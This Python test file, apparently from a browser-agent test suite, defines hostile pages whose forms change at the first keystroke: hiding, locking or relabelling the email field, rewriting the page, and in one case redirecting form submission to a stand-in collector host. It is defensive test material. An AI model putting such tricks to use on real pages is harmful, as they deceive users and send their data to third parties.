"""A page that changes between the look and the writing: at the first key, as it were."""

from tests.browser.hostile.attack import Attack
from tests.browser.hostile.claims import only_filled
from tests.browser.hostile.pages import EMAIL, REASON, objection
from tests.browser.hostile.scene import Scene
from tests.browser.people import ADA


def at_first_input(then: str) -> str:
    """Runs inside the very event that filling the first field sends."""
    return f"""const form = document.querySelector("form"), {{ email, reason }} = form.elements;
      window.kept = [reason, email];
      form.addEventListener("input", () => {{ {then} }}, {{ once: true }});"""


#: What the page does once the explanation is in, before the address would be.
CHANGES = {
    "goes to another address": "history.pushState({}, '', '/about/')",
    "hides the field": "email.style.opacity = 0",
    "hides it by a rule": "document.body.className = 'begun'",
    "makes it a password": "email.type = 'password'",
    "locks it": "email.readOnly = true",
    "asks for something else": "email.labels[0].firstChild.data = 'Link (URL) to your profile '; email.type = 'text'; email.name = 'x'",
    "becomes another form": "document.querySelector('h1').textContent = 'Report a copyright infringement'",
    "sends it elsewhere": "form.action = 'https://collector.example/'",
    "takes the form away": "form.remove()",
    "writes a new document": "document.open(); document.write('<p>gone'); document.close()",
}


def nothing_after_the_first(scene: Scene) -> None:
    """Read from the controls themselves: some are in no document any more."""
    assert scene.runs("return kept.map(({ value }) => value)") == [ADA["reason"], ""]


ATTACKS = [
    Attack(
        f"first key: {name}",
        "what was true at the look is not at the writing",
        objection(
            REASON,
            EMAIL,
            style=".begun [name=email] { clip-path: circle(0) }",
            script=at_first_input(change),
        ),
        (nothing_after_the_first,),
    )
    for name, change in CHANGES.items()
] + [
    Attack(
        "overwritten scrolling",
        "the field is out of reach, and the page says that it was scrolled to",
        objection(
            REASON,
            "<div style='position:fixed;top:-400px'>" + EMAIL + "</div>",
            script="Element.prototype.scrollIntoView = () => {}; Element.prototype.scrollTo = () => {}",
        ),
        (only_filled("reason"),),
    ),
]
